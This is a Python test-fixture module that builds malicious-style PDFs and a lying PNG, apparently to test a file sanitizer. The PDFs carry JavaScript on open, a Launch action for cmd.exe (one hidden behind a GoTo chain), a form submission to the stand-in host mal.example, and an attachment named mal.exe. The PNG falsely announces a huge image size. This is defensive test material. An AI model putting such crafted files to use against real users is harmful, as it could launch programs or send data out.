"""Files that act or lie, made here: active PDFs by the name of what they do, a PNG that announces another size."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf


def pdf_avec(modifier: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
    """A PDF of one page that something has been put into."""
    sortie = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        modifier(document)
        document.save(sortie, **options)
    return sortie.getvalue()


def _ouverture(document: pikepdf.Pdf, **action: Any) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(**action)


def _javascript(document: pikepdf.Pdf) -> None:
    _ouverture(document, S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def _javascript_nomme(document: pikepdf.Pdf) -> None:
    script = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x")))
    arbre = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script]))
    document.Root.Names = pikepdf.Dictionary(JavaScript=arbre)


def _lancement(document: pikepdf.Pdf) -> None:
    _ouverture(document, S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))


def _envoi(document: pikepdf.Pdf) -> None:
    _ouverture(document, S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://mal.example"))


def _suite_d_actions(document: pikepdf.Pdf) -> None:
    suite = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    _ouverture(document, S=pikepdf.Name.GoTo, D=pikepdf.Array([0]), Next=pikepdf.Array([suite]))


def _fichier_joint(document: pikepdf.Pdf) -> None:
    document.attachments["mal.exe"] = b"MZ"


def _annotation_jointe(document: pikepdf.Pdf) -> None:
    document.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.FileAttachment)])


def _action_de_page(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.GoTo))


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"), Fields=pikepdf.Array())


def _media(document: pikepdf.Pdf) -> None:
    document.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia)])


def _profond(document: pikepdf.Pdf) -> None:
    noeud = pikepdf.Dictionary(S=pikepdf.Name.Launch)
    for _ in range(80):
        noeud = pikepdf.Dictionary(Kids=pikepdf.Array([noeud]))
    document.Root.Suspect = noeud


ACTIFS = {
    "script à l’ouverture": _javascript,
    "script nommé": _javascript_nomme,
    "lancement de programme": _lancement,
    "envoi de formulaire": _envoi,
    "action cachée derrière une autre": _suite_d_actions,
    "fichier joint": _fichier_joint,
    "annotation qui joint": _annotation_jointe,
    "action de page": _action_de_page,
    "formulaire XFA": _xfa,
    "média enrichi": _media,
    "imbrication sans fin": _profond,
}


def bloc_png(genre: bytes, donnees: bytes) -> bytes:
    return struct.pack(">I", len(donnees)) + genre + donnees + struct.pack(">I", zlib.crc32(genre + donnees))


def png_menteur(largeur: int, hauteur: int) -> bytes:
    """A PNG of a few bytes that announces a huge image."""
    entete = struct.pack(">IIBBBBB", largeur, hauteur, 8, 2, 0, 0, 0)

    donnees = bloc_png(b"IHDR", entete) + bloc_png(b"IDAT", zlib.compress(b"")) + bloc_png(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + donnees
